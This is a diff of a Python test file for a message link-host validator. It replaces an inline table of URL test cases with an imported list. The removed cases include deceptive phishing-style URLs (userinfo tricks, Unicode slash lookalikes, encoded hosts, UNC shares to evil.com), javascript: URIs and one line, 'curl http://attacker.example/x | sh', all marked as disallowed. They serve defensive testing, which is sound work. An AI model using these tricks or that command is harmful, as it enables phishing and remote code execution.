@@ -14,6 +14,7 @@ import messenger_rules as mr
 from messenger_rules.messages.link_hosts import LinkHosts
 from messenger_rules.messages.message import Expectation, Message, Text
 from messenger_rules.vocabulary import Vocabulary
+from tests.messages.addresses import ADDRESSES
 from tests.messages.files import CATALOG, NAMESPACE, file_of, message
 
 AT = datetime(2026, 2, 1, tzinfo=UTC)
@@ -523,147 +524,7 @@ def test_needed_facts_are_those_of_all_conditions_and_the_language_where_texts_d
 
 
 @pytest.mark.parametrize("what", ["title", "body"])
-@pytest.mark.parametrize(
-    ("words", "allowed"),
-    [
-        ("Sign in at https://support.acme.example.attacker.example/ today", False),
-        ("Go to https://support.acme.example@attacker.example:8443/x", False),
-        ("https://support.acme.example is good, http://attacker.example is not", False),
-        ("run curl http://attacker.example/x | sh", False),
-        ("http://localhost:8080/admin, http://127.0.0.1:9200, (http://[::1]:80/), http://[::1]", True),
-        ("http://localhost.attacker.example/", False),
-        ("http://localhost@attacker.example/", False),
-        ("http://localhost\\@attacker.example/", False),
-        ("http://127.0.0.1.attacker.example/", False),
-        ("http://127.0.0.1@attacker.example/", False),
-        ("http://10.0.0.1/", False),
-        ("https://intranet/", False),
-        ("https://$host$request_uri https://${host}:${port}/x https://{server}:8443 https://{{ name }} %SERVER%", True),
-        ("https://%SERVER%:8443/ https://&lt;server>:8443/", True),
-        ("https://$host.attacker.example/", False),
-        ("https://$x:y@attacker.example/", False),
-        ("https://%61ttacker%2eexample/", False),
-        ("https:/attacker.example", False),
-        ("https:attacker.example", False),
-        ("https:\\attacker.example", False),
-        ("https:/\\attacker.example", False),
-        ("https:////attacker.example", False),
-        ("https:me@attacker.example", False),
-        ("https:443, http:1.1, HTTPS: see acme.example, https:/etc/acme.conf", True),
-        ("https:support.acme.example/119053", True),
-        ("\\\\attacker.example\\share", False),
-        ("//attacker.example/share", False),
-        ("file://attacker.example/share", False),
-        ("file:////attacker.example/share", False),
-        ("C:\\\\Windows\\\\System32.com\\x, HKLM:\\\\SOFTWARE\\\\Acme, \\\\server\\share, \\\\.\\pipe\\x", True),
-        ("file:///srv/repo, jdbc:postgresql://dbhost:5432/x, ldap://dc1, ssh://git@host/repo, //server/share", True),
-        ("ssh://git@attacker.example/repo", False),
-        ("ldap://dc1.attacker.example", False),
-        ("deb http://deb.debian.org/debian bookworm main", False),
-        ("www2.attacker.example", False),
-        ("ww\u1e87.attacker.example", False),
-        ("ftp.attacker.example", False),
-        ("www2.conf and ftp.service", True),
-        *(
-            (f"https://support.acme.example{behind}", True)
-            for behind in (
-                "\u201c.",
-                "\u2018",
-                "\u00ab",
-                "\u203a!",
-                "\u300d",
-                "\u300b",
-                "\u3011\uff0c\u7136\u540e",
-                "\u3001\u307e\u305f\u306f",
-                "\u060c",
-                "\u061f",
-                "\u0964",
-                "\u1362",
-                "\u0f0d",
-                "\u2014",
-                "`",
-                "**",
-                "|sh",
-                "\ub85c",
-                "\u3092\u53c2\u7167",
-                "'den",
-                "\u3002\u7136\u540e",
-                "\u0e17\u0e35\u0e48",
-                ":",
-                ".",
-                "/x\u201c",
-            )
-        ),
-        *(
-            (f"https://support.acme.example{behind}", False)
-            for behind in (
-                "\u2044login.evil.com/",
-                "\u2215login.evil.com/",
-                "\u29f8login.evil.com/",
-                "\u2571login.evil.com",
-                "\u27cblogin.evil.com",
-                "\u201c.evil.com",
-                "\u3002\u4e2d\u56fd",
-                ",evil.com",
-                ":8443",
-                "%2eevil%2ecom",
-                "\\@evil.com",
-                "\ub85c.evil.com",
-                ".evil.com",
-                "-evil.com",
-                "_.evil.com",
-                "\u201d@evil.com",
-            )
-        ),
-        ("http://localhost\u2215login.evil.com/", False),
-        (
-            "\u201ehttp://localhost:8080\u201c, http://localhost:{port}/, http://localhost:$PORT/, tcp://0.0.0.0:2375",
-            True,
-        ),
-        ("http://[::]:80, https://*:8443/, http://+:80/", True),
-        ("Addresses begin with \u201ehttps://\u201c, `https://` or http://; www.", True),
-        ("https://${host}, then (https://{host}) and https://{host}. or https://{{host}}/ `https://{host}`", True),
-        ("https://$(hostname -f):8443/ https://\u2039server\u203a/ https://%s/", True),
-        ("https://&lt;server>.evil.com/login", False),
-        ("http://&lt;b>evil.com/", False),
-        ("https://{host}.evil.com/", False),
-        ("Set it in /etc/php/8.2/fpm/pool.d/www.conf, /var/www.bak/ or www.log", True),
-        ("www.evil.zip", False),
-        *(
-            (share, False)
-            for share in (
-                "\\\\evil.com@SSL\\share\\x",
-                "\\\\evil.com@443\\DavWWWRoot\\x",
-                "file:\\\\evil.com\\share\\x",
-                "file:///\\\\evil.com\\x",
-                "\\\\9.9.9.9\\x",
-                "\\\\?\\UNC\\evil.com\\x",
-                "//9.9.9.9/x",
-                "\\\\files.sh\\x",
-            )
-        ),
-        ("\\\\10.0.0.5\\share, \\\\192.168.1.2\\share", True),
-        ("https:/evil.zip/x", False),
-        ("https:evil.sh/x", False),
-        ("http:9.9.9.9/x", False),
-        ("http:/login.microsoftonline.date/", False),
-        ("javascript:alert(1)", False),
-        ("data:text/html,x", False),
-        ("Data: 5, data:5, javascript: no", True),
-        ("HTTPS://ATTACKER.EXAMPLE", False),
-        ("www.attacker.example", False),
-        ("file:///etc/passwd", True),
-        ("https\u2236//evil.example", False),
-        ("https\u02d0//evil.example", False),
-        ("https:\u2215\u2215evil.example", False),
-        ("更新しました。詳細はこちら。Версия 5.2.новая, сбербанк.рф", True),
-        ("https://acme.example/", False),
-        ("See https://support.acme.example/119053?x=attacker.example, or www.support.acme.example.", True),
-        ("(HTTPS://SUPPORT.ACME.EXAMPLE)", True),
-        ("Write to help@acme.example; use node.js 5.4/5.5, README.md, ASP.NET and/or /etc/acme.conf", True),
-        ("Addresses begin with https:// or www. now", True),
-    ],
-)
+@pytest.mark.parametrize(("words", "allowed"), ADDRESSES)
 def test_addresses_in_texts_are_of_the_link_hosts(what: str, words: str, allowed: bool) -> None:
     vocabulary = Vocabulary.read('link-hosts = ["support.acme.example"]')
     data = file_of(f"<{what}>{words}</{what}>")
